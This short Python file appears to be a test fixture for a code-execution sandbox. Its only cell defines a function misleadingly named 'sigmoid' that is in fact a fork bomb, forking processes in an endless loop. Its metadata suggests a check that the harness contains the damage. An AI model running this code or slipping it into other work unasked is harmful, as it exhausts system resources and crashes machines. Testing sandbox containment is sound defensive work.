"""A fork bomb."""

TITLE = "fork bomb"
KIND = "processes"
MUST = "only its question lost"
BASE = "right"
LONG = True
CELLS = {"sigmoid": '''
import os

def sigmoid(z):
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''}
